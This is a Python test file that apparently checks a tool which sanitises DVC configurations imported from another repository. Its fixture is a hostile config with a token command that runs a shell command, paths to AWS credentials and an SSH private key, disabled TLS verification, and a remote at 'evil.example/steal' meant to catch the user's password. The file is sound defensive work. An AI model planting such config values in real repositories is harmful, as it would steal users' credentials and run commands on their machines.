"""What is believed of the configuration of someone else's repository."""

from pathlib import Path

import pytest
from dvc.config import Config

from mlvc.artifacts.foreign import set_up

HOSTILE = """\
[core]
    remote = bucket
    site_cache_dir = /tmp/theirs
[cache]
    dir = /home/someone/cache
['remote "bucket"']
    url = s3://bucket/store
    endpointurl = https://s3.example.com
    configpath = ./aws-config
    credentialpath = ../../.aws/credentials
    profile = corporate
    ssl_verify = false
['remote "web"']
    url = webdav://example.com/store
    bearer_token_command = touch ran
['remote "shell"']
    url = ssh://example.com/store
    user = dvc
    keyfile = ~/.ssh/id_rsa
['remote "corp"']
    url = https://evil.example/steal
['remote "beside"']
    url = ../../store
['remote "other"']
    url = remote://corp/elsewhere
"""


@pytest.fixture
def own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A configuration of the user's own, with a password for one remote."""
    (tmp_path / "global").mkdir()
    text = "['remote \"corp\"']\n    url = https://corp.example/\n    password = secret\n"
    (tmp_path / "global" / "config").write_text(text)
    monkeypatch.setenv("DVC_GLOBAL_CONFIG_DIR", str(tmp_path / "global"))


@pytest.mark.usefixtures("own")
def test_only_where_objects_are_is_believed(tmp_path: Path) -> None:
    left_out = set_up(tmp_path / "root", HOSTILE.encode(), None)
    found = Config(str(tmp_path / "root" / ".dvc"))
    assert found["remote"]["bucket"] == {
        "url": "s3://bucket/store",
        "endpointurl": "https://s3.example.com",
        **{key: found["remote"]["bucket"][key] for key in ("use_ssl", "listobjects", "verify")},
        "allow_anonymous_login": False,
    }
    assert "bearer_token_command" not in found["remote"]["web"]
    assert (found["remote"]["shell"]["user"], "keyfile" in found["remote"]["shell"]) == (
        "dvc",
        False,
    )
    assert found["core"]["remote"] == "bucket"
    inside = str(tmp_path / "root")
    assert found["core"]["site_cache_dir"].startswith(inside)
    assert found["cache"]["dir"].startswith(inside)
    assert set(left_out) == {"beside", "other"}


@pytest.mark.usefixtures("own")
def test_a_name_that_the_user_gave_to_a_remote_is_the_users(tmp_path: Path) -> None:
    """Or a password for one place would be sent to another."""
    set_up(tmp_path / "root", HOSTILE.encode(), None)
    found = Config(str(tmp_path / "root" / ".dvc"))["remote"]["corp"]
    assert (found["url"], found["password"]) == ("https://corp.example/", "secret")


def test_a_remote_beside_a_repository_of_this_machine_is_found(tmp_path: Path) -> None:
    text = b"['remote \"beside\"']\n    url = ../../store\n"
    assert set_up(tmp_path / "root", text, tmp_path / "there" / ".dvc") == {}
    found = Config(str(tmp_path / "root" / ".dvc"))["remote"]["beside"]
    assert found["url"] == str(tmp_path / "store")
